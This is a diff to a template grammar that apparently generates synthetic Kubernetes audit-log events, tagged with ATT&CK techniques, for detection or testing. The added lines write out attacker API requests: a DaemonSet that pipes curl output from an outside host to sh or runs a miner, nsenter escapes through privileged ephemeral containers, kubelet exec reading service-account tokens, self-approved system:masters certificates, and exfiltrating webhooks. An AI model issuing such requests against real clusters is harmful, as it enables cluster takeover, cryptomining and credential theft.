@@ -126,4 +126,19 @@ stolen «list|get|create» /api/v1/«namespaces/%ns/«pods|secrets|configmaps|po
 «stolen|person» patch /api/v1/namespaces/«%ns|kube-system|default» «200|403» <<body>> {"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged","«admission.gatekeeper.sh/ignore|istio-injection»":"«no-self-managing|disabled»"}}}
 # T1485 kube things destroyed
 «stolen|person» «delete|deletecollection» /«api/v1/namespaces/«%ns|prod|default»|api/v1/persistentvolumes«|/pvc-«guid»»|apis/apps/v1/namespaces/%ns/«deployments|statefulsets»|api/v1/namespaces/%ns/«secrets|persistentvolumeclaims|pods|configmaps»|apis/velero.io/v1/namespaces/velero/backups|api/v1/nodes/%node» «200|403»
+# kube administrators on hard days
+admin create /api/v1/namespaces/%ns/pods 201 <<body>> {"spec":{"nodeName":"%node","hostPID":true,"containers":[{"name":"debugger","image":"registry.«sitedomain»/debug:«num:1:9»","securityContext":{"privileged":«false|true»},"command":["«tcpdump|dmesg|crictl»"]}]}}
+admin get /api/v1/nodes/%node/proxy/«metrics|stats/summary|configz|healthz» 200
+admin «patch|update» /apis/admissionregistration.k8s.io/v1/«validating|mutating»webhookconfigurations/«cert-manager-webhook|kyverno-resource|istio-sidecar-injector|«siteword»» 200 <<body>> {"webhooks":[{"name":"«siteword».«sitedomain»","clientConfig":{"service":{"name":"«siteword»","namespace":"%ns"}},"failurePolicy":"Fail"}]}
+operator patch /apis/admissionregistration.k8s.io/v1/«validating|mutating»webhookconfigurations/«cert-manager-webhook|kyverno-resource|vault-agent-injector-cfg» 200 <<body>> {"webhooks":[{"name":"webhook.«siteword»","clientConfig":{"caBundle":"«b64:40»"}}]}
+controller update /apis/certificates.k8s.io/v1/certificatesigningrequests/csr-«token:5»/approval 200 <<body>> {"spec":{"signerName":"kubernetes.io/kube-apiserver-client-kubelet","usages":["digital signature","client auth"]}}
+# T1610 kube daemons on every node
+stolen create /apis/apps/v1/namespaces/«kube-system|default|%ns»/daemonsets 201 <<body>> {"spec":{"template":{"spec":{"hostNetwork":true,"hostPID":true,"tolerations":[{"operator":"Exists"}],"containers":[{"name":"«kube-controller|«letters:5»|sys-agent»","image":"docker.io/«letters:7»/«letters:5»:latest","command":["sh","-c","«curl -s http://«pub»/«letters:3» ¦ sh|chroot /host sh|./xmrig -o «pub»:3333»"]}]}}}}
+# T1609 kube shells by debug and kubelet
+stolen patch /api/v1/namespaces/«kube-system|%ns»/pods/«etcd|kube-apiserver|«siteword»»-«token:5»/ephemeralcontainers 200 <<body>> {"spec":{"ephemeralContainers":[{"name":"«letters:4»","image":"«alpine|docker.io/«letters:6»/tools»","targetContainerName":"«siteword»","securityContext":{"privileged":true},"command":["nsenter","-t","1","-a"]}]}}
+stolen «create|get» /api/v1/nodes/%node/proxy/«run|exec»/kube-system/«kube-proxy|etcd»-«token:5»/«siteword»?cmd=«id|cat%20/var/run/secrets/kubernetes.io/serviceaccount/token|sh» «200|101|403»
+# T1098.001 kube certificates for oneself
+stolen update /apis/certificates.k8s.io/v1/certificatesigningrequests/«letters:6»/approval 200 <<body>> {"spec":{"signerName":"kubernetes.io/kube-apiserver-client","username":"«letters:6»","groups":["system:masters"],"expirationSeconds":«num:9999999:315360000»}}
+# T1556 kube webhooks that listen in
+stolen «create|patch» /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/«letters:6» «201|200» <<body>> {"webhooks":[{"name":"«letters:5».«domain»","clientConfig":{"url":"https://«pub»:8443/«mutate|m»"},"failurePolicy":"Ignore","rules":[{"resources":["secrets","pods"],"operations":["CREATE"]}]}]}
 """)
